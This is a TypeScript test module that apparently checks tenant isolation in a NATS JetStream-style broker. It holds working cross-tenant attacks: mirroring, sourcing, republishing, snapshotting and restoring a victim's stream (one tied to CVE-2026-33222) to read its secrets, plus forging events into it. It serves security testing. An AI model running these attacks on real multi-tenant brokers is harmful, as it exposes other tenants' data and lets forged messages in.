import { setTimeout as sleep } from "node:timers/promises";
import type { Scene } from "../scene.ts";
import { api, granted, type Attack } from "./attack.ts";

const copyName = (scene: Scene, id: string): string =>
  `isolation-test-${id}-${scene.secret.slice(0, 8)}`;

/** Creates a stream for the attacker, tells whether the victim's event comes into it, and deletes it. */
async function copies(
  scene: Scene,
  id: string,
  config: Readonly<Record<string, unknown>>,
): Promise<string | undefined> {
  const { raider, own, victim } = scene;
  const name = copyName(scene, id);
  const created = await raider.ask(api(`STREAM.CREATE.${name}`), {
    name,
    storage: "memory",
    max_bytes: 100_000,
    ...config,
  });
  if (!granted(created)) return undefined;
  await victim.put(id, { secret: scene.secret });
  let obtained: string | undefined;
  for (let tries = 0; tries < 10 && obtained === undefined; tries += 1) {
    await sleep(30);
    const request = api(`STREAM.MSG.GET.${name}`);
    obtained = scene.secretIn(await raider.ask(request, { seq: 1, next_by_subj: ">" }));
  }
  for (const { manager } of [own, victim])
    await manager.streams.delete(name).catch(() => undefined);
  return obtained;
}

interface Change {
  readonly of: "own" | "victim";
  readonly settings: Readonly<Record<string, unknown>>;
}

/** Changes the settings of a stream, tells what was obtained, and changes them back. */
export async function withSettings(
  scene: Scene,
  { of, settings }: Change,
  obtained: () => Promise<string | undefined>,
): Promise<string | undefined> {
  const { admin, manager, store } = scene[of];
  const { config } = await manager.streams.info(store.stream);
  const request = api(`STREAM.UPDATE.${store.stream}`);
  const answer = await scene.raider.ask(request, { ...config, ...settings });
  if (!granted(answer)) return undefined;
  try {
    return await obtained();
  } finally {
    await admin.ask(request, config);
  }
}

/** Streams that copy the victim's, and settings that lead its events away. */
export const streams: readonly Attack[] = [
  {
    id: "R19",
    title: "mirror the victim's stream",
    run: async (scene) => copies(scene, "r19", { mirror: sourceOf(scene) }),
  },
  {
    id: "R20",
    title: "create a stream that sources the victim's",
    run: async (scene) => copies(scene, "r20", { sources: [sourceOf(scene)] }),
  },
  {
    id: "R21",
    title: "add the victim's stream as a source of the own one",
    run: async (scene) =>
      withSettings(scene, { of: "own", settings: { sources: [sourceOf(scene)] } }, async () => {
        await scene.own.comesToHold(scene.canary.subject);
        const { stream } = scene.own.store;
        const body = { last_by_subj: scene.canary.subject };
        return scene.secretIn(await scene.raider.ask(api(`STREAM.MSG.GET.${stream}`), body));
      }),
  },
  {
    id: "R22",
    title: "create a stream on the victim's subjects",
    run: async (scene) => copies(scene, "r22", { subjects: [scene.victim.subject("r22")] }),
  },
  {
    id: "R23",
    title: "take the victim's subjects into the own stream",
    async run(scene) {
      const { own, victim } = scene;
      const subjects = [`${own.store.subjectPrefix}.>`, victim.subject("r23")];
      return withSettings(scene, { of: "own", settings: { subjects } }, async () => {
        await victim.put("r23", { secret: scene.secret }).catch(() => undefined);
        const request = api(`STREAM.MSG.GET.${own.store.stream}`);
        const answer = await scene.raider.ask(request, { last_by_subj: victim.subject("r23") });
        return scene.secretIn(answer);
      });
    },
  },
  {
    id: "R24",
    title: "have the victim's stream republish to the attacker",
    async run(scene) {
      const { raider, victim } = scene;
      const dest = raider.inbox();
      const republish = { src: victim.subject("r24"), dest };
      return withSettings(scene, { of: "victim", settings: { republish } }, async () =>
        scene.secretIn(
          await raider.hear(dest, async () => victim.put("r24", { secret: scene.secret })),
        ),
      );
    },
  },
  {
    id: "R25",
    title: "take a snapshot of the victim's stream",
    async run({ raider, victim }) {
      const deliver = raider.inbox();
      const request = api(`STREAM.SNAPSHOT.${victim.store.stream}`);
      const heard = await raider.hear(deliver, async () =>
        granted(await raider.ask(request, { deliver_subject: deliver, no_consumers: true })),
      );
      return heard === "" ? undefined : "a snapshot";
    },
  },
  {
    id: "R26",
    title: "restore the victim's stream by a request for the own one (CVE-2026-33222)",
    async run({ raider, own, victim }) {
      const { config, state } = await victim.manager.streams.info(victim.store.stream);
      const request = api(`STREAM.RESTORE.${own.store.stream}`);
      const answer = await raider.ask(request, { config, state });
      return answer.includes('"deliver_subject"') ? "a restore of the victim's stream" : undefined;
    },
  },
  {
    id: "W10",
    title: "create a stream that renames what it sources to the victim's subjects",
    async run(scene) {
      const { own, victim } = scene;
      await own.put("w10", { forged: true });
      const dest = victim.subject("w10-forged");
      const source = {
        name: own.store.stream,
        subject_transforms: [{ src: own.subject("w10"), dest }],
      };
      await copies(scene, "w10", { sources: [source] });
      return (await victim.comesToHold(dest)) ? "a forged event" : undefined;
    },
  },
];

function sourceOf({ victim, canary }: Scene): Readonly<Record<string, unknown>> {
  return { name: victim.store.stream, filter_subject: canary.subject };
}
